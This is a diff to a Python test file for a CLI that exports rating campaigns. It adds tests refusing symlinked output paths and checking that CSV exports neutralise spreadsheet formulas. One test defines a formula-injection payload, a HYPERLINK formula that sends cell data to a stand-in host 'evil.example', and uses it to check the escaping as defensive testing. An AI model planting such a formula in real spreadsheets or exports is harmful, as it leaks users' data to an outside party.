@@ -90,15 +90,17 @@ def test_export_to_stdout_and_to_a_file(ddft_store, ddft_workspace, tmp_path):
                     str(tmp_path / "no" / "such" / "f.csv"))
     assert missing.exit_code == 1 and "no folder" in missing.output
     assert not (tmp_path / "no").exists()
-    # Through a symbolic link to its target, with the mode an ordinary write gives.
+    # A symbolic link planted at the output path is refused: its target is left alone.
     target = tmp_path / "real.csv"
     target.write_text("old")
-    target.chmod(0o644)
     (tmp_path / "link.csv").symlink_to(target)
     linked = _ddft(ddft_workspace, "campaign", "export", "duel", "--out", str(tmp_path / "link.csv"))
-    assert linked.exit_code == 0
-    assert (tmp_path / "link.csv").is_symlink() and target.read_text().startswith("campaign,")
-    assert target.stat().st_mode & 0o777 == 0o644
+    assert linked.exit_code == 1 and "symbolic link" in linked.output
+    assert (tmp_path / "link.csv").is_symlink() and target.read_text() == "old"
+    # A replaced file keeps its mode.
+    target.chmod(0o600)
+    assert _ddft(ddft_workspace, "campaign", "export", "duel", "--out", str(target)).exit_code == 0
+    assert target.read_text().startswith("campaign,") and target.stat().st_mode & 0o777 == 0o600
     fresh = tmp_path / "fresh.csv"
     assert _ddft(ddft_workspace, "campaign", "export", "duel", "--out", str(fresh)).exit_code == 0
     assert fresh.stat().st_mode & 0o044  # readable by others under the usual umask
@@ -177,3 +179,27 @@ def test_report_with_ratings_but_no_judge_prints_the_ratings(ddft_store, ddft_wo
     rows = list(csv.DictReader(io.StringIO(as_csv.output)))
     assert [(r["campaign"], r["human_n"], r["human_overall"]) for r in rows] == [
         ("duel", "1", "4.0000")]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def test_csv_exports_neutralise_formulas_and_json_stays_exact(ddft_store, ddft_workspace):
+    fill_store(ddft_store, samples=2)
+    assert _create(ddft_workspace, "@sum", "--mode", "single").exit_code == 0
+    with session_scope(ddft_store) as session:
+        campaign_id = c.get_campaign(session, name="@sum").id
+        rater_id = c.get_or_create_rater(session, name=FORMULA).id
+        item = c.next_item(session, campaign_id=campaign_id, rater_id=rater_id)
+        c.save_rating(session, assignment_id=item.assignment_id, seconds=1,
+                      scores={"ingredients": 2, "steps": 3, "overall": 4})
+    exported = _ddft(ddft_workspace, "campaign", "export", "@sum")
+    assert exported.exit_code == 0, exported.output
+    row = next(csv.DictReader(io.StringIO(exported.output)))
+    assert row["rater"] == "'" + FORMULA and row["campaign"] == "'@sum"
+    assert row["overall"] == "4" and row["seconds"] == "1.0"
+    as_json = _ddft(ddft_workspace, "campaign", "export", "@sum", "--format", "json")
+    assert json.loads(as_json.output)["ratings"][0]["rater"] == FORMULA
+    report = _ddft(ddft_workspace, "report", "--eval-set", EVAL_SET, "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(report.output)))
+    assert rows[0]["campaign"] == "'@sum" and rows[0]["human_overall"] == "4.0000"
